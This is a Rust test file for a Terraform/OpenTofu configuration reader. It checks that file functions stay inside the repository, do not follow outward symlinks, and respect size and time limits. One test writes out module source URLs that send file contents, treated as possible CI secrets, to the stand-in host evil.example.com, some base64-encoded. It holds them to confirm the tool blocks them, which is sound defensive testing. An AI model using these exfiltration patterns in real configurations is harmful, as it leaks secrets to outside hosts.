//! Functions that read files, and the paths that they start from.

use std::fs;
use std::path::Path;

use super::{assert_providers, directory, options, read, short, texts};
use crate::configuration::{InputVariables, ModuleCache, RootModule, read_resolved};
use crate::provider::Dialect;
use crate::system::{Boundary, Secrets};

/// The files that expressions read.
const FILES: [(&str, &str); 9] = [
    ("a/main.tf", "provider \"a\" {}\n"),
    ("name.txt", "a"),
    ("conf/names.json", "{\"first\": \"a\"}"),
    ("conf/deep/er/a.json", ""),
    ("conf/deep/a.yml", ""),
    ("conf/.hidden", "a"),
    ("line.tpl", "%{ for n in names ~}\n${upper(n)}${x}\n%{ endfor ~}\n"),
    ("one.tpl", "${x}"),
    ("wrong.tpl", "%{ if false }${y}%{ endif }a"),
];

/// The root module, whose module `m` has this name.
fn root(name: &str) -> String {
    format!("module \"m\" {{\n  source = \"./${{{name}}}\"\n}}\n")
}

/// The errors of a configuration whose module's name is an expression; none if it is `a`.
fn errors_of(name: &str, more: &[(&str, &str)]) -> Vec<String> {
    let main = root(name);
    let files: Vec<_> = [("main.tf", main.as_str())].iter().chain(&FILES).chain(more).copied().collect();
    match read(directory(&files).path(), &options(Dialect::Tofu)) {
        Ok(requirements) => {
            assert_eq!(short(&requirements), [("hashicorp/a".to_owned(), String::new())], "{name}");
            Vec::new()
        }
        Err(errors) => texts(&errors),
    }
}

#[test]
fn files_of_the_repository_are_read() {
    // The real Terraform says the same of each.
    for expression in [
        "file(\"name.txt\")",
        "file(\"./conf/../name.txt\")",
        "file(\"${path.module}/name.txt\")",
        "core::file(\"name.txt\")",
        "jsondecode(file(\"conf/names.json\")).first",
        "fileexists(\"name.txt\") && !fileexists(\"none\") && !fileexists(\"none/name.txt\") ? \"a\" : \"b\"",
        "try(fileexists(\"conf\"), file(\"conf\"), file(\"none\"), \"a\")",
        "join(\",\", fileset(\"conf\", \"*.json\")) == \"names.json\" ? \"a\" : \"b\"",
        "join(\",\", fileset(\"conf\", \"deep/**\")) == \"deep/a.yml,deep/er/a.json\" ? \"a\" : \"b\"",
        "join(\",\", fileset(\"conf\", \"deep/**/*.json\")) == \"deep/er/a.json\" ? \"a\" : \"b\"",
        "join(\",\", fileset(\"conf/deep\", \"**/a.*\")) == \"a.yml,er/a.json\" ? \"a\" : \"b\"",
        "join(\",\", fileset(\"conf\", \"deep/*/a.json\")) == \"deep/er/a.json\" ? \"a\" : \"b\"",
        "join(\",\", fileset(\".\", \"conf/n?mes.json\")) == \"conf/names.json\" ? \"a\" : \"b\"",
        "length(fileset(\"conf\", \"*.none\")) == length(fileset(\"none\", \"*\")) ? \"a\" : \"b\"",
        "templatefile(\"line.tpl\", { names = [\"k\", \"l\"], x = 1 }) == \"K1\\nL1\\n\" ? \"a\" : \"b\"",
        "try(templatefile(\"wrong.tpl\", {}), \"a\")",
        "templatefile(\"wrong.tpl\", { y = 1 })",
    ] {
        assert_eq!(errors_of(expression, &[]), [""; 0], "{expression}");
    }
}

#[test]
fn what_is_not_certain_of_files_is_not_known() {
    let large = "x".repeat((4 << 20) + 1);
    for (expression, reason) in [
        ("file(\"../name.txt\")", "leads out of the repository"),
        ("file(\"/etc/hostname\")", "leads out of the repository"),
        ("fileexists(\"/nowhere\")", "leads out of the repository"),
        ("file(\"conf/.hidden\")", "or to a hidden file"),
        ("file(\"~/name.txt\")", "the home directory is not read"),
        ("file(\"large\")", "is larger than 4 MiB"),
        ("file(\"none\")", "there is no such file"),
        ("file(\"name.txt\", 1)", "takes 1 arguments, not 2"),
        ("length(fileset(\"conf\", \"*\"))", "hidden files"),
        ("length(fileset(\"conf\", \"**\"))", "hidden files"),
        ("length(fileset(\".\", \"*\"))", "that `init` writes"),
        ("length(fileset(\".\", \"**/*.json\"))", "that `init` writes"),
        ("length(fileset(\"conf\", \"{a,b}\"))", "this pattern is not evaluated"),
        ("length(fileset(\"conf\", \"../*\"))", "this pattern is not evaluated"),
        ("templatefile(\"one.tpl\", { x = \"a\" })", "a template of this form"),
        ("templatefile(\"wrong.tpl\", {})", "a variable that it is not given"),
        ("abspath(\"name.txt\")", "the current directory is not known"),
    ] {
        let found = errors_of(expression, &[("large", &large)]);
        assert!(found.len() == 1 && found[0].contains(reason), "{expression}: {found:?}");
    }
}

#[cfg(unix)]
#[test]
fn links_out_of_the_repository_are_not_followed() {
    for (expression, is_known) in [
        ("file(\"repository/inside\")", true),
        ("file(\"outside\")", false),
        ("file(\"out/name.txt\")", false),
        ("fileexists(\"out/none\") ? \"b\" : \"a\"", false),
        ("fileexists(\"broken\") ? \"b\" : \"a\"", false),
        ("length(fileset(\"out\", \"*\")) > 0 ? \"b\" : \"a\"", false),
    ] {
        let main = root(&expression.replace("repository/", ""));
        let files = [("repository/main.tf", main.as_str()), ("repository/a/main.tf", FILES[0].1), ("name.txt", "a")];
        let directory = directory(&[&files[..], &[("repository/name.txt", "a")]].concat());
        let at = |path: &str| directory.path().join(path);
        for (target, link) in [("name.txt", "inside"), ("../name.txt", "outside"), ("..", "out"), ("../none", "broken")]
        {
            std::os::unix::fs::symlink(target, at("repository").join(link)).unwrap();
        }
        for has_repository in [false, true] {
            if has_repository {
                fs::create_dir(at("repository/.git")).unwrap();
            }
            let boundary = Boundary::around([at("repository")]);
            let cache = ModuleCache::new(InputVariables::default(), boundary, Secrets::default(), None);
            let root = at("repository");
            let found =
                read_resolved(RootModule::Directory(&root, None), &options(Dialect::Tofu), &cache, None, &|_| ());
            assert_eq!(found.is_ok(), is_known, "{expression}: {:?}", found.map_err(|errors| texts(&errors)).err());
        }
    }
}

#[test]
fn reading_files_ends() {
    let half = "x".repeat(2 << 20);
    let found = errors_of("join(\"\", [for n in range(1024) : length(file(\"half\"))])", &[("half", &half)]);
    assert!(found[0].contains("takes too long"), "{found:?}");
    let deep = "d/".repeat(150) + "a";
    let found =
        errors_of("length(fileset(\"conf\", \"d/**/**/**/**/**/**/**/**/a\"))", &[(&format!("conf/{deep}"), "")]);
    assert!(found[0].contains("too long") || found[0].contains("too deeply"), "{found:?}");
}

/// A file may be a secret that CI put beside the configuration of a hostile pull request.
#[test]
fn what_files_say_is_not_sent_to_other_hosts() {
    let source = |expression: &str| format!("module \"m\" {{\n  source = \"{expression}\"\n}}\n");
    let local = "locals {\n  secret = file(\"name.txt\")\n  host = \"evil.example.com\"\n}\n";
    for expression in [
        "git::https://evil.example.com/${file(\"name.txt\")}.git",
        "git::https://${local.host}/${local.secret}.git",
        "https://evil.example.com/a.zip?${base64encode(local.secret)}",
        "evil.example.com/${local.secret}/b/c",
        "git::https://evil.example.com/${fileexists(\"name.txt\") ? \"a\" : \"b\"}.git",
        "git::https://evil.example.com/${length(fileset(\"conf\", \"*.json\"))}.git",
    ] {
        let main = local.to_owned() + &source(expression);
        let files: Vec<_> = [("main.tf", main.as_str())].iter().chain(&FILES).copied().collect();
        let errors = texts(&read(directory(&files).path(), &options(Dialect::Tofu)).unwrap_err());
        assert!(errors.len() == 1 && errors[0].contains("is not sent to other hosts"), "{expression}: {errors:?}");
    }
    // Without a file the address is known, and its module is missing.
    let main = local.to_owned() + &source("git::https://${local.host}/a.git");
    let errors = texts(&read(directory(&[("main.tf", &main)]).path(), &options(Dialect::Tofu)).unwrap_err());
    assert!(errors[0].contains("is not installed"), "{errors:?}");
}

#[test]
fn paths_of_called_modules_are_relative_to_the_root_module() {
    let call = |name: &str, source: &str| format!("module \"{name}\" {{\n  source = \"{source}\"\n}}\n");
    let inner = "module \"n\" {\n  source = \"../../${basename(path.module)}${path.root}\"\n}\n";
    let read = "module \"n\" {\n  source = \"../${file(\"${path.module}/name.txt\")}\"\n}\n";
    let (b, c) = (call("b", "./m/../m/b"), call("c", "./d"));
    let files = [("main.tf", b + &c), ("m/b/main.tf", inner.to_owned()), ("d/main.tf", read.to_owned())];
    let files: Vec<_> = files.iter().map(|(path, text)| (*path, text.as_str())).collect();
    let more = [("b./main.tf", "provider \"b\" {}\n"), ("d/name.txt", "a"), FILES[0]];
    assert_providers(&[&files[..], &more].concat(), &[("hashicorp/a", ""), ("hashicorp/b", "")]);
    for (source, expected) in [("./m/a", "m/a"), ("./.", "."), ("./m/../n", "n")] {
        let module = crate::modules::local::directory(Path::new("."), source);
        assert_eq!(module, Path::new(expected));
    }
}
